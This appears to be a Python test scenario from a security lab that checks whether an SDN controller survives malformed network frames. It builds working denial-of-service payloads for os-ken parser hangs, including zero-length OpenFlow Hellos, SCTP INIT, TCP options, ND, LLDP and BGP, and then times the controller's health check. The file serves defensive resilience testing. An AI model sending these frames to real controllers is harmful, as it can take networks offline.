"""Frames that have hung or crashed parsers: the controller answers on."""

from __future__ import annotations

import os
import signal
import struct
import time

import httpx
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import IPv6
from scapy.packet import Padding, Raw

from attack.evidence import observations
from attack.frames import BROADCAST, Packet, ether
from attack.scenario import ATTACKS, Group
from attack.trial import Trial
from lab.errors import LabError

group = Group("parsers", ATTACKS)
_PATIENCE = 1.0
"""Seconds in which a controller that is well answers."""


def _silence(trial: Trial) -> str:
    """How long the controller did not answer, if that was too long."""
    controller = trial.arena.network.controller
    if controller is None:
        raise LabError("there is no controller to ask")
    started = time.monotonic()
    transport = httpx.HTTPTransport(uds=str(controller.socket))
    with httpx.Client(transport=transport, timeout=2 * _PATIENCE) as client:
        try:
            client.get("http://controller/v1/health")
        except httpx.HTTPError as error:
            return f"no answer ({type(error).__name__})"
    taken = time.monotonic() - started
    return f"an answer after {taken:.1f} s" if taken > _PATIENCE else ""


def _stopped(trial: Trial) -> None:
    """A controller that hangs, as far as others can see."""
    controller = trial.arena.network.controller
    if controller is None or controller.process is None:
        raise LabError("there is no controller to stop")
    os.kill(controller.process.pid, signal.SIGSTOP)
    try:
        trial.note("the controller's answer", _silence(trial))
    finally:
        os.kill(controller.process.pid, signal.SIGCONT)


def _payloads(src: str, dst: str, port: int) -> dict[str, Packet]:
    """What comes up to the controller from a host that may open `port`."""
    hello = b"\x04\x00\x00\x00\x00\x00\x00\x00"
    base = IP(src=src, dst=dst)
    init = struct.pack("!HHII", 40300, port, 0, 0) + struct.pack("!BBHIIHHI", 1, 0, 24, 1, 1000, 1, 1, 1) + bytes(4)
    return {
        "OpenFlow of length 0 from 6633": base / TCP(sport=6633, dport=port, flags="S") / Raw(hello),
        "OpenFlow of length 0 from 6653": base / TCP(sport=6653, dport=port, flags="S") / Raw(hello),
        "OpenFlow of length 0 to 6653": base / TCP(sport=40300, dport=6653, flags="S") / Raw(hello),
        "OpenFlow Hello with an element of length 0": base
        / TCP(sport=6653, dport=port, flags="S")
        / Raw(b"\x04\x00\x00\x10" + bytes(12)),
        "SCTP INIT with a parameter of length 0": IP(src=src, dst=dst, proto=132) / Raw(init),
        "TCP options of length 0": base
        / Raw(bytes(TCP(sport=40301, dport=port, flags="S", dataofs=8)) + b"\x08\x00" * 6),
        "DHCP without an end": base / UDP(sport=68, dport=67) / Raw(b"\x01" * 240 + b"\xff" * 60),
        "BGP of length 0": base / TCP(sport=179, dport=port, flags="S") / Raw(b"\xff" * 16 + bytes(3)),
        "ICMP that quotes itself": base / ICMP(type=3, code=3) / Raw(bytes(base / ICMP(type=3, code=3)) * 3),
    }  # fmt: skip


def _frames(trial: Trial) -> dict[str, Packet]:
    """What comes up because of its EtherType."""
    own = trial.mac(trial.cast.stranger)
    solicit = IPv6(src="fe80::1", dst="ff02::1", hlim=255, nh=58) / Raw(bytes((135, 0, 0, 0)) + bytes(20) + b"\x01\x00")
    return {
        "ND with an option of length 0": ether(own, "33:33:00:00:00:01") / solicit,
        "ARP with lengths of 255": ether(own, BROADCAST, type=0x0806) / Raw(b"\x00\x01\x08\x00\xff\xff\x00\x01"),
        "LLDP with a length of 0": ether(own, "01:80:c2:00:00:0e", type=0x88CC) / Raw(bytes(46)),
        "IPv6 with a hundred headers": ether(own, BROADCAST) / IPv6(nh=0) / Raw(bytes(800)),
        "nothing": ether(own, BROADCAST, type=0x0800),
    }  # fmt: skip


@group.scenario(
    "parsers-hang",
    reference="os-ken 4.2.2: packet.Packet, Hello, SCTP; CWE-835",
    tried="the frames that os-ken's parsers never return from, and others with lengths of zero, from both attackers",
    success="the controller does not answer within a second",
    covers=("parsers",),
    judge=observations,
    quick=True,
    unprotected="a network without Zethane has no controller",
    control=_stopped,
)
def hang(trial: Trial) -> None:
    """Sent by a host that may open a service, so that they do come up to be verified; and by a stranger."""
    permit = trial.cast.service
    for source, target in ((permit.source, permit.target), (trial.cast.stranger, permit.target)):
        head = ether(trial.mac(source), trial.mac(target))
        packets = _payloads(trial.ip(source), trial.ip(target), permit.port)
        trial.send(source, [head / packet / Padding(b"\0") for packet in packets.values()])
    trial.send(trial.cast.stranger, _frames(trial).values())
    trial.arena.settle()
    trial.note("the controller's answer", _silence(trial))
